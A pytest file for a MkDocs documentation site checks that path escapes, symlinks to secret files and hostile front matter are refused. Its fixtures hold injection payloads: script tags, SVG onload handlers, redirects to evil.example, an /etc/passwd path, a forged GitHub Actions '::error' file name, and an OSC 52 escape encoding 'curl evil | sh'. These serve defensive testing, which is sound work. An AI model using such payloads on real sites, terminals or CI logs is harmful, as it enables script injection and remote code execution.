"""Paths stay inside: symlinks, permalinks, generated pages, static files, duplicate ids, malformed tags.

Every case is one docs folder built twice (strict: it must fail naming the file; plain: nothing
leaves the site, nothing is replaced, nothing outside the repository is published) and checked
once with scripts/check.py. The folder holds all the cases, so the cost is two builds.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT
from dev.devtools import build_site
from errata.entries import anchor_for

TOKEN = "secret-token-7f3a91"  # a file outside the docs that must never reach the site

GOOD = "---\ntitle: {title}\n{extra}---\n# {title}\n\n- `KeyError: '{key}'`\n\n  - 解决方案：\n    检查键名。\n"
CASES = {
    # file → (front matter extra, what the check and the build must say about it)
    "permalink-home.md": ("permalink: index\n", "would replace the home page"),
    "permalink-lookup.md": ("permalink: /lookup/\n", "permalink /lookup/ is a path the site generates"),
    "permalink-outside.md": ("permalink: /../../outside/\n", "must not contain '.' or '..' segments"),
    "permalink-static.md": ("permalink: /assets/javascripts/errata.js/\n", "is a path the site generates"),
    "permalink-image.md": ("permalink: /img/diagram.png/\n", "collides with the file img/diagram.png"),
    "permalink-url.md": ("permalink: https://evil.example/\n", "must be a path under the site, not a URL"),
    "permalink-page.md": ("permalink: /good/\n", "would replace the page"),
    # MkDocs writes README.md and index.md at the folder's index.html: the home page, or good/'s page.
    "permalink-readme.md": ("permalink: /README/\n", "would replace the home page"),
    "permalink-page-readme.md": ("permalink: /good/README\n", "would replace the page"),
    "permalink-b.md": ("permalink: /pages/abc123/\n", "/pages/abc123/ is already the permalink of"),
    # A folder's name has at most 255 bytes: the redirects plugin ended the build in "File name too long".
    "permalink-long.md": ("permalink: /pages/" + "页" * 90 + "/\n", "is too long for a path of the site"),
    # An old address an imported page is also reached by: checked as a permalink is, in its own words.
    "redirect-outside.md": ("redirect_from: [/../../outside.html]\n", "redirect_from '/../../outside.html' must not contain '.' or '..'"),
    "redirect-lookup.md": ("redirect_from: [/lookup/]\n", "redirect_from /lookup/ is a path the site generates"),
    "redirect-page.md": ("redirect_from: [/good/]\n", "redirect_from /good/ would replace the page"),
    "redirect-url.md": ("redirect_from: ['https://evil.example/a.html']\n", "must be a path under the site, not a URL"),
    "redirect-quote.md": ("redirect_from: ['/a\"b.html']\n", "may not hold a control character"),
    "redirect-shape.md": ("redirect_from: {a: 1}\n", "redirect_from must be a list of old addresses"),
    # Red team round 31: a line separator or a text-direction mark, refused in the docs' file names, made a folder of site/.
    "redirect-separator.md": ('redirect_from: ["/a\\u2028b.html"]\n', "may not hold a control character, a line separator"),
    "redirect-direction.md": ('redirect_from: ["/\\u202egnp.html"]\n', "may not hold a control character, a line separator"),
    "redirect-permalink.md": ("redirect_from: [/pages/abc123/]\n", "redirect_from /pages/abc123/ is already an address of"),
    # Material looks a page's icon and template up while it renders: a bad one ended the build in a traceback.
    "icon-path.md": ("icon: ../../../../etc/passwd\n", "is not an icon of the theme"),
    "template-missing.md": ("template: nope.html\n", "is not a template of the theme"),
    "template-redirect.md": ("template: redirect.html\nlocation: https://evil.example/\n", "is not a page template"),
    # Material asks ``"toc" in hide`` and ``search.get(...)``: another shape ended the build in a traceback.
    "hide-number.md": ("hide: 3\n", "hide must be a list of words"),
    "search-text.md": ("search: x\n", "search must be a mapping"),
    "search-list.md": ("search: [exclude]\n", "search must be a mapping"),
    # A red-team audit: Material copies search.boost into the index as it is; .nan made it invalid JSON,
    # which ended search on every page, and a huge boost puts one essay above every other.
    "search-nan.md": ("search: {boost: .nan}\n", "search.boost must be a number"),
    "search-huge.md": ("search: {boost: 1.0e+300}\n", "search.boost must be a number from 0 to 10"),
    "search-negative.md": ("search: {boost: -10}\n", "search.boost must be a number from 0 to 10"),
    "search-exclude.md": ("search: {exclude: maybe}\n", "search.exclude must be true or false"),
    # A red-team audit: Material prints status into a class of the navigation's links; a second word put the theme's
    # consent overlay over every page of the section, where a build that is not strict kept it.
    "status-class.md": ("status: new md-consent__overlay\n", "status must be one word"),
    "tags-nested.md": ("tags: [[a]]\n", "tags: item 1 is a list, not a word"),
    "tags-mapping.md": ("tags: [{a: 1}]\n", "tags: item 1 is a mapping, not a word"),
}


@pytest.fixture(scope="module")
def docs(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("paths")
    outside = root / "outside.md"
    outside.write_text(f"---\ntitle: outside\n---\n# outside\n\n{TOKEN}\n", encoding="utf-8")
    (root / "private").mkdir()
    (root / "private" / "notes.md").write_text(f"---\ntitle: notes\n---\n{TOKEN}\n", encoding="utf-8")
    docs = root / "docs"
    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")  # the site's own script, which a permalink may not replace
    (docs / "index.md").write_text("---\ntitle: 首页\n---\n# 首页\n", encoding="utf-8")
    (docs / "lookup.md").write_text("---\ntitle: 查错\n---\n# 查错\n", encoding="utf-8")
    (docs / "good.md").write_text(GOOD.format(title="good", extra="", key="good"), encoding="utf-8")
    (docs / "permalink-a.md").write_text(GOOD.format(title="a", extra="permalink: /pages/abc123/\n", key="a"), encoding="utf-8")
    for name, (extra, _) in CASES.items():
        (docs / name).write_text(GOOD.format(title=name[:-3], extra=extra, key=name[:-3]), encoding="utf-8")
    (docs / "img").mkdir()
    (docs / "img" / "diagram.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (docs / "linked.md").symlink_to(outside)
    (docs / "linked-folder").symlink_to(root / "private")
    (docs / "errors.md").write_text("---\ntitle: 我的错误\n---\n# 我的错误\n", encoding="utf-8")
    (docs / "page.html").write_text("<script>window.__pwned = 1</script>", encoding="utf-8")
    # Pages published at a folder named like a file the site writes: the build ended in a traceback.
    for name in ("errors.json.md", "01.sitemap.xml.md"):
        (docs / name).write_text(GOOD.format(title=name[:-3], extra="", key=name[:-3]), encoding="utf-8")
    # Names whose order number came off leaving only dots: the folder 01... became .., the page 05...md became .
    # (its pages were written outside the site, the page over the home page).
    (docs / "01...").mkdir()
    (docs / "01..." / "escape.md").write_text(GOOD.format(title="escape", extra="", key="escape"), encoding="utf-8")
    (docs / "05...md").write_text(GOOD.format(title="dots", extra="", key="dots"), encoding="utf-8")
    # A folder named like a page: the build read it as an essay and ended in a traceback.
    (docs / "chapter.md").mkdir()
    (docs / "chapter.md" / "inner.md").write_text(GOOD.format(title="inner", extra="", key="inner"), encoding="utf-8")
    (docs / "assets" / "javascripts" / "bundle.a5f9d56c.min.js.md").write_text("---\ntitle: b\n---\n# b\n", encoding="utf-8")
    (docs / "assets" / "javascripts" / "bundle.a5f9d56c.min.js").write_text("window.__pwned = 1", encoding="utf-8")
    (docs / "img" / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', encoding="utf-8")
    # Found by a red-team audit: MkDocs builds .markdown pages too, which the hooks skipped (a title of
    # <script> on every page's navigation); a static host serves .xhtm as XHTML and .xpdl as XML, whose
    # scripts run; a contributed script is what such a tag would load.
    (docs / "p.markdown").write_text('---\ntitle: <script src="/img/x.js"></script>\n---\nx\n', encoding="utf-8")
    # A GBK essay (the damage the site repairs): MkDocs ended the build in a traceback on it (a red-team audit).
    (docs / "gbk.md").write_bytes("---\ntitle: 编码\n---\n显存不够\n".encode("gbk"))
    xml = '<?xml version="1.0"?><root><script xmlns="http://www.w3.org/1999/xhtml">window.__pwned = 1</script></root>'
    for name in ("x.xhtm", "x.xpdl"):
        (docs / "img" / name).write_text(xml, encoding="utf-8")
    (docs / "img" / "x.js").write_text("window.__pwned = 1", encoding="utf-8")
    # A red-team audit: front matter MkDocs reads where the site reads none (MultiMarkdown's key: value lines), or
    # another block (after an empty one): the theme printed a status the check never saw.
    (docs / "mmd.md").write_text("status: new md-consent__overlay\nsubtitle: x\n\n# mmd\n", encoding="utf-8")
    (docs / "two-blocks.md").write_text("---\n---\ntitle: two\nstatus: new md-consent__overlay\n---\n# two\n", encoding="utf-8")
    # The site's own placeholders in a contributor's essay: the lookup form and the front door were put in.
    (docs / "widgets.md").write_text(
        GOOD.format(title="widgets", extra="", key="widgets") + '\n<div id="errata-lookup-form"></div>\n\n<!-- errata:front-door -->\n\nerrata-front-door\n',
        encoding="utf-8",
    )
    (docs / "ids.md").write_text(
        "---\ntitle: ids\n---\n# ids\n\n## 重复 { #" + anchor_for("KeyError: 'x'") + " }\n\n"
        + "- `KeyError: 'x'`\n\n  - 解决方案：\n    一。\n\n"
        + "- `KeyError: 'y'`\n\n  - 解决方案：\n    二。\n\n- `KeyError: 'y'`\n\n  - 解决方案：\n    三。\n",
        encoding="utf-8",
    )
    return docs


@pytest.fixture(scope="module")
def strict(docs):
    return build_site(docs.parent / "strict-site", docs_dir=docs)


@pytest.fixture(scope="module")
def plain(docs):
    site = docs.parent / "site"
    result = build_site(site, docs_dir=docs, strict=False)
    assert result.returncode == 0, result.stderr[-3000:]
    return site


@pytest.fixture(scope="module")
def check(docs):
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "check.py"), "docs", "--tags", "none.yml"],
        capture_output=True, text=True, cwd=docs.parent, env={**os.environ, "GITHUB_ACTIONS": ""},
    )


@pytest.mark.parametrize("name", sorted(CASES))
def test_each_case_fails_the_check_and_the_strict_build_naming_the_file(name, strict, check):
    what = CASES[name][1]
    assert strict.returncode != 0
    assert any(name in line and what in line for line in strict.stderr.splitlines()), (name, strict.stderr[-4000:])
    assert check.returncode == 1
    assert any(f"docs/{name}:3:" in line and what in line for line in check.stdout.splitlines()), (name, check.stdout)


@pytest.mark.parametrize("name, what", [("mmd.md", "the lines before the first blank line"), ("two-blocks.md", "a block from line 1 to line 5")])
def test_front_matter_mkdocs_reads_otherwise_fails_the_check_and_the_strict_build(name, what, strict, check):
    assert any(name in line and f"MkDocs would read {what}" in line for line in strict.stderr.splitlines()), strict.stderr[-4000:]
    assert any(f"docs/{name}:1:" in line and f"MkDocs would read {what}" in line for line in check.stdout.splitlines()), check.stdout


def test_a_duplicate_permalink_names_both_files(strict, check):
    line = next(line for line in check.stdout.splitlines() if "is already the permalink of" in line)
    assert "docs/permalink-b.md" in line and "docs/permalink-a.md" in line
    assert any("permalink-b.md" in line and "permalink-a.md" in line for line in strict.stderr.splitlines())


@pytest.mark.parametrize(
    "name, what",
    [
        ("linked.md", "symbolic link"),
        ("linked-folder", "symbolic link"),
        ("errors.md", "the site generates errors.md"),
        ("page.html", "a .html file is published as it is"),
        ("img/logo.svg", "a .svg file is published as it is"),
        ("p.markdown", "Errata builds essays from .md files only"),
        ("gbk.md", "not UTF-8"),
        ("img/x.xhtm", "a .xhtm file is published as it is"),
        ("img/x.xpdl", "a .xpdl file is published as it is"),
        ("img/x.js", "a .js file is published as it is"),
        ("assets/javascripts/bundle.a5f9d56c.min.js", "would replace the theme's own file"),
        ("errors.json.md", "where the site writes its file errors.json"),
        ("01.sitemap.xml.md", "where the site writes its file sitemap.xml"),
        ("assets/javascripts/bundle.a5f9d56c.min.js.md", "where the site writes its file assets/javascripts/bundle"),
    ],
)
def test_refused_files_fail_the_check_and_the_strict_build(name, what, strict, check):
    assert any(name in line and what in line for line in strict.stderr.splitlines()), strict.stderr[-4000:]
    assert any(f"docs/{name}:1:" in line and what in line for line in check.stdout.splitlines()), check.stdout


def test_duplicate_ids_fail_the_check_and_the_strict_build(strict, check):
    assert "ids.md" in strict.stderr and "appears twice on the page" in strict.stderr
    reported = [line for line in check.stdout.splitlines() if "docs/ids.md" in line and "appears twice" in line]
    assert len(reported) == 2, check.stdout  # the heading id equal to an anchor, and the repeated message


def test_nothing_leaves_the_site_and_nothing_is_replaced(docs, plain):
    root = docs.parent
    assert not (root / "outside" / "index.html").exists() and not (root.parent / "outside" / "index.html").exists()
    assert "首页" in (plain / "index.html").read_text(encoding="utf-8")  # the home page is still the home page
    assert "Redirecting" not in (plain / "lookup" / "index.html").read_text(encoding="utf-8")
    assert (plain / "assets" / "javascripts" / "errata.js").is_file()
    assert "Redirecting" in (plain / "pages" / "abc123" / "index.html").read_text(encoding="utf-8")  # a sound permalink still works
    assert "/permalink-a/" in (plain / "pages" / "abc123" / "index.html").read_text(encoding="utf-8")
    assert "我的错误" not in (plain / "errors" / "index.html").read_text(encoding="utf-8")
    assert not (plain / "page.html").exists() and not (plain / "img" / "logo.svg").exists()
    assert not [p for p in plain.rglob("*") if p.name in ("x.xhtm", "x.xpdl", "x.js") or p.parent.name == "p"]
    assert not [p for p in plain.rglob("*.html") if "<script src=\"/img/x.js\"" in p.read_text(encoding="utf-8")]
    assert not [p for p in plain.rglob("*.html") if re.search(r'class="[^"]*md-consent__overlay', p.read_text(encoding="utf-8"))]
    assert "__pwned" not in (plain / "assets" / "javascripts" / "bundle.a5f9d56c.min.js").read_text(encoding="utf-8")
    assert (plain / "errors.json").is_file() and (plain / "sitemap.xml").is_file()
    def no_constant(name: str):
        raise ValueError(f"{name} is not JSON")  # json.loads would take NaN and Infinity, browsers do not

    for index in (plain / "search" / "search_index.json", plain / "errors.json"):
        json.loads(index.read_text(encoding="utf-8"), parse_constant=no_constant)
    published = [p for p in plain.rglob("*") if p.is_file() and p.suffix in (".html", ".json", ".md")]
    assert not [p for p in published if TOKEN in p.read_text(encoding="utf-8", errors="replace")]


def test_the_site_s_widgets_go_on_its_own_pages_only(plain):
    essay = (plain / "widgets" / "index.html").read_text(encoding="utf-8")
    assert "<textarea" not in essay and 'class="errata-front-door"' not in essay
    assert "<textarea" not in (plain / "good" / "index.html").read_text(encoding="utf-8")


def test_a_name_left_as_dots_by_its_order_number_stays_in_the_site(docs, plain):
    assert not (docs.parent / "escape").exists()  # written at site/../escape/ before
    assert "<title>首页" in (plain / "index.html").read_text(encoding="utf-8")  # not replaced by 05...md
    assert (plain / "01..." / "escape" / "index.html").is_file() and (plain / "05.." / "index.html").is_file()


def test_a_folder_named_like_a_page_is_a_folder(strict, plain):
    assert "Traceback" not in strict.stderr and "chapter.md" not in strict.stderr
    assert (plain / "chapter.md" / "inner" / "index.html").is_file()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_in_the_docs_is_reported_not_read(tmp_path):
    """A FIFO named like a page or an image: the build and the check waited for ever for a writer."""
    from dev.devtools import config_for

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text("---\ntitle: 首页\n---\n# 首页\n", encoding="utf-8")
    os.mkfifo(docs / "pipe.md")
    os.mkfifo(docs / "pipe.png")
    config = config_for(docs, tmp_path / "mkdocs.yml")
    run = dict(capture_output=True, text=True, timeout=120, env={**os.environ, "NO_MKDOCS_2_WARNING": "1", "GITHUB_ACTIONS": ""})
    build = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(config), "-d", str(tmp_path / "site")], cwd=ROOT, **run)
    assert build.returncode != 0 and "Traceback" not in build.stderr
    for name in ("pipe.md", "pipe.png"):
        assert any(name in line and "not a regular file" in line for line in build.stderr.splitlines()), build.stderr[-3000:]
    check = subprocess.run([sys.executable, str(ROOT / "scripts" / "check.py"), "docs", "docs/pipe.md", "--tags", "none.yml"], cwd=tmp_path, **run)
    assert check.returncode == 1
    for name in ("pipe.md", "pipe.png"):
        assert f"docs/{name}:1: not a regular file" in check.stdout, check.stdout


def test_the_project_docs_have_no_path_problems():
    from errata.site import Catalogue

    catalogue = Catalogue(ROOT / "docs").refresh()
    catalogue.redirects()
    assert catalogue.problems == []


def test_site_settings_with_markup_are_printed_as_text_and_fail_the_strict_build(docs, tmp_path):
    """A blog's imported configuration (or any change to mkdocs.yml) once put its title's markup on every
    page: the theme prints site_name, site_description and repo_url as they are (a red-team audit:
    ``</title><meta http-equiv=refresh …><script src=…>``). Now each is text or left out, and --strict fails."""
    from dev.devtools import config_for

    config = config_for(docs, tmp_path / "mkdocs-hostile.yml")
    text = config.read_text(encoding="utf-8")
    text = text.replace("site_name: Errata 报错手册", "site_name: '</title><script src=\"/img/x.js\"></script><title>'")
    text = re.sub("(?m)^site_description: .*$", "site_description: '\"><meta http-equiv=refresh content=0;url=https://evil.example/>'", text)
    text = text.replace("repo_url: https://github.com/errata-kb/errata", "repo_url: 'https://evil.example/\"><script src=/img/x.js></script>'")
    config.write_text(text, encoding="utf-8")
    for strict in (True, False):
        site = tmp_path / f"site-{strict}"
        result = build_site(site, config=config, strict=strict)
        for key in ("site_name", "site_description", "repo_url"):
            assert f"mkdocs.yml: {key} " in result.stderr, result.stderr[-3000:]
        assert (result.returncode != 0) == strict
    home = (tmp_path / "site-False" / "index.html").read_text(encoding="utf-8")
    assert "<script src=\"/img/x.js\"" not in home and "<meta http-equiv=refresh" not in home and 'href="https://evil.example' not in home
    assert "&lt;/title&gt;" in home


def test_names_that_are_not_utf8_or_hold_a_line_break_are_refused_and_printed_escaped(tmp_path):
    """A red-team audit: a file named with the bytes ``a\\xffb.md`` ended the build in a traceback, and one
    whose name holds line breaks put a line of its own (``::error …``, a command to GitHub Actions) in
    the build's log. Both are refused by the check and the build, and shown escaped."""
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
    (docs / "index.md").write_text("---\ntitle: 首页\n---\n# 首页\n", encoding="utf-8")
    os.makedirs(docs / "notes")
    with open(os.path.join(os.fsencode(docs / "notes"), b"a\xffb.md"), "wb") as out:
        out.write(b"---\ntitle: a\n---\n# a\n")
    (docs / "notes" / "x\n::error file=README.md,line=1::FAKE\n.md").write_text("---\ntitle: x\n---\n# x\n", encoding="utf-8")
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "notes/a\\xffb.md:1: the name is not UTF-8" in result.stderr
    assert "::error" not in "".join(line[:7] for line in result.stderr.splitlines())  # no line starts with it
    assert "notes/x\\x0a::error" in result.stderr
    check = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "check.py"), "docs"], capture_output=True, text=True, cwd=tmp_path, env={**os.environ, "GITHUB_ACTIONS": ""}
    )
    assert check.returncode == 1
    assert "a\\xffb.md:1: the name is not UTF-8" in check.stdout and "x\\x0a::error" in check.stdout
    assert not any(line.startswith("::error") for line in check.stdout.splitlines())


def test_escapes_in_a_link_are_shown_not_obeyed_by_the_check_and_the_build(tmp_path):
    """Round 28: a link's anchor holding an OSC 52 (``#a␛]52;c;…␇``, which writes the clipboard of the terminal that
    prints it) reached the terminal of whoever checked or built the pull request, raw: in the check's ``anchor …
    does not exist`` and in MkDocs's own warnings, which quote the link. Both show it escaped, still one line each."""
    osc52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
    (docs / "index.md").write_text("---\ntitle: 首页\n---\n# 首页\n\n## 有\n", encoding="utf-8")
    (docs / "a.md").write_text(f"---\ntitle: a\n---\n# a\n\n[x](#anchor{osc52})\n\n[y](index.md#z{osc52})\n", encoding="utf-8")
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "#anchor\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in result.stderr and "#z\\x1b]52;c;" in result.stderr
    for github in ("", "true"):
        check = subprocess.run(
            [sys.executable, str(ROOT / "scripts" / "check.py"), "docs"], capture_output=True, text=True, cwd=tmp_path,
            env={**os.environ, "GITHUB_ACTIONS": github},
        )
        assert check.returncode == 1 and "\x1b" not in check.stdout + check.stderr and "\x07" not in check.stdout
        assert "anchor\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in check.stdout


@pytest.mark.parametrize("strict", [True, False])
def test_a_page_published_inside_another_page_s_file_is_reported_not_a_traceback(tmp_path, strict):
    """Round 28: ``a/index.html.md`` is published at ``a/index.html/index.html``, a folder where ``a/index.md`` writes
    its file ``a/index.html``: the check said nothing and the build, strict or not, ended in a traceback (File exists)."""
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
    (docs / "index.md").write_text("---\ntitle: 首页\n---\n# 首页\n", encoding="utf-8")
    (docs / "a").mkdir()
    (docs / "a" / "index.md").write_text("---\ntitle: a\n---\n# a\n", encoding="utf-8")
    (docs / "a" / "index.html.md").write_text("---\ntitle: b\n---\n# b\n", encoding="utf-8")
    result = build_site(tmp_path / "site", docs_dir=docs, strict=strict)
    assert "Traceback" not in result.stderr and (result.returncode != 0) == strict, result.stderr[-2000:]
    assert "a/index.html.md would be published at a/index.html/index.html, inside a/index.md's file a/index.html" in result.stderr
    if not strict:
        assert (tmp_path / "site" / "a" / "index.html").is_file()  # the folder's own page, as it was


def test_the_check_reports_a_page_published_inside_another_page_s_file_or_at_its_address(tmp_path):
    """The build's two clashes (round 28 found the check silent on the second): a contributor hears of them in the pull request."""
    from errata.contribution import check_files

    docs = tmp_path / "docs"
    (docs / "a").mkdir(parents=True)
    (docs / "01.b").mkdir()
    for name in ("index.md", "a/index.md", "a/index.html.md", "01.b/x.md"):
        (docs / name).write_text("---\ntitle: t\n---\n# t\n", encoding="utf-8")
    (docs / "b").mkdir()
    (docs / "b" / "x.md").write_text("---\ntitle: t\n---\n# t\n", encoding="utf-8")
    problems = check_files([docs / "a" / "index.md"], docs_dir=docs)
    messages = {(Path(p.path).relative_to(docs).as_posix(), p.message) for p in problems}
    assert ("a/index.html.md", "a/index.html.md would be published at a/index.html/index.html, inside a/index.md's file a/index.html: rename one of them") in messages
    assert ("01.b/x.md", "01.b/x.md and b/x.md would both be published at b/x/index.html: rename one of them") in messages


def test_old_addresses_are_checked_against_the_static_files_in_linear_time():
    """Each address was compared with each static file: thousands of pages with old addresses beside thousands of pictures."""
    from errata.paths import redirect_from_problems
    from scaling import grows_linearly

    def check(n: int):
        return redirect_from_problems({f"a{i}.md": ([f"/a{i}.html", f"/img/{i}.png/x"], 1) for i in range(n)}, {}, {f"img/{i}.png" for i in range(n)}, {})

    assert len(check(10)[1]) == 10  # each /img/N.png/x is under a picture
    assert grows_linearly(check, 2000)


def test_an_old_address_at_a_page_s_own_file_or_a_file_the_build_writes_is_refused():
    """/index.html, a page's …/index.html and /tags.json passed the check, then the build ended in a traceback
    (a redirect is written at <address>/index.html, inside a file that is no folder)."""
    from errata.paths import MAX_OLD_ADDRESSES, MAX_SEGMENTS, redirect_from_problems

    pages = {"": "index.md", "python/environment/": "03.python/01.environment.md"}
    valid, problems = redirect_from_problems(
        {"v.md": (["/index.html", "/python/environment/index.html", "/tags.json", "/old/"], 3), "w.md": (["/old/index.html"], 4)}, pages, set(), {}
    )
    assert valid == {"old": "v.md"}
    assert [p.message for p in problems] == [
        "redirect_from '/index.html' would replace the home page",
        "redirect_from /python/environment/ would replace the page 03.python/01.environment.md",
        "redirect_from /tags.json/ is a path the site generates; choose another",
        "redirect_from /old/ is already an address of v.md",
    ]
    many = redirect_from_problems({"v.md": ([f"/a{i}.html" for i in range(MAX_OLD_ADDRESSES + 1)], 2)}, pages, set(), {})
    deep = redirect_from_problems({"v.md": (["/" + "/".join("d" * (MAX_SEGMENTS + 1)) + "/"], 2)}, pages, set(), {})
    assert many[0] == {} and "a page may keep at most" in many[1][0].message
    assert deep[0] == {} and "segments; at most" in deep[1][0].message


def test_an_old_address_that_differs_from_a_page_or_a_file_by_case_only_is_refused():
    """On a file system that ignores case (macOS's, Windows'), /Python/Environment/ is the page's folder."""
    from errata.paths import redirect_from_problems

    pages = {"python/environment/": "03.python/01.environment.md"}
    valid, problems = redirect_from_problems({"v.md": (["/Python/Environment", "/Errors", "/404.HTML", "/img/a.png"], 2)}, pages, {"img/A.png"}, {})
    assert valid == {}
    assert [p.message for p in problems] == [
        "redirect_from /Python/Environment/ would replace the page 03.python/01.environment.md",
        "redirect_from /Errors/ is a path the site generates; choose another",
        "redirect_from /404.HTML/ is a path the site generates; choose another",
        "redirect_from /img/a.png/ collides with the file img/A.png",
    ]


def test_a_name_with_a_text_direction_mark_is_refused_and_printed_escaped():
    """A red-team audit: ``18.abc\u202edm.x.md`` shows as ``18.abcx.md.md`` where a log viewer applies the mark."""
    from errata.checks import printable_name
    from errata.paths import name_problem

    assert name_problem("18.abc\u202edm.x.md") == "the name holds a control character, a line break or a text-direction mark (rename it)"
    assert printable_name("18.abc\u202edm.x.md") == "18.abc\\u202edm.x.md"


def test_an_old_address_inside_a_page_s_file_or_another_address_s_file_is_refused():
    """A red-team audit: ``redirect_from: /python/environment/index.html/old.html`` passed the check and ended
    the build in a traceback (a folder asked of a page's file), leaving the pages written so far without
    their security policy. The same for an address under another address written as a file."""
    from errata.paths import redirect_from_problems

    pages = {"python/environment/": "env.md"}
    valid, problems = redirect_from_problems({"a.md": (["/python/environment/index.html/old.html"], 3)}, pages, set(), {})
    assert valid == {} and [p.message for p in problems] == ["redirect_from /python/environment/index.html/old.html/ lies inside the file of the page env.md"]
    valid, problems = redirect_from_problems({"a.md": (["/old.html"], 2), "b.md": (["/old.html/x"], 4)}, pages, set(), {})
    assert valid == {"old.html": "a.md"} and [(p.src_path, p.line) for p in problems] == [("b.md", 4)]
    valid, problems = redirect_from_problems({"a.md": (["/old.html/x"], 2), "b.md": (["/old.html"], 4)}, pages, set(), {})
    assert valid == {"old.html/x": "a.md"} and [(p.src_path, p.line) for p in problems] == [("b.md", 4)]


def test_a_page_whose_suffix_is_upper_case_is_no_page_and_is_not_published(tmp_path):
    """Round twenty-two: MkDocs takes ``.md`` as a page in lower case only, and the static-file rule lowered the suffix,
    so ``evil.MD`` was copied to the site as it is, past every check. It is refused as any other Markdown suffix is."""
    from errata.paths import static_file_problem

    assert "rename it to .md" in static_file_problem("notes/evil.MD", set())
    assert static_file_problem("notes/ok.md", set()) is None
